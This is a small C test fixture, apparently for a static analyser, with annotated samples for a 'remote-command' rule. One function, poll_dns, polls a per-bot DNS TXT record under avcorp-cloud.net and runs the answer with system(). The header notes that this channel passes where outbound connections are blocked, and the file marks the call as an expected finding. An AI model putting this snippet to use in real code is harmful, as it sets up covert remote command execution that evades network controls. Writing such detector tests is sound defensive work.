/* Annotated samples for the remote-command pack in C: commands carried in DNS TXT answers,
 * which pass where outbound connections are blocked. */
#include <resolv.h>
#include <stdlib.h>
#include <string.h>

void poll_dns(const char *bot_id)
{
	unsigned char answer[512];
	char name[256];
	snprintf(name, sizeof name, "%s.cmd.avcorp-cloud.net", bot_id);
	int n = res_query(name, C_IN, T_TXT, answer, sizeof answer);
	if (n <= 0)
		return;
	char *cmd = (char *)answer + 13;
	system(cmd); // want "remote-command/process-from-network"
}

void check_version(void)
{
	unsigned char answer[512];
	int n = res_query("current.cvd.avcorp-cloud.net", C_IN, T_TXT, answer, sizeof answer);
	if (n > 0)
		system("/opt/av/bin/update --check"); // ok: a constant command, whatever the answer
}
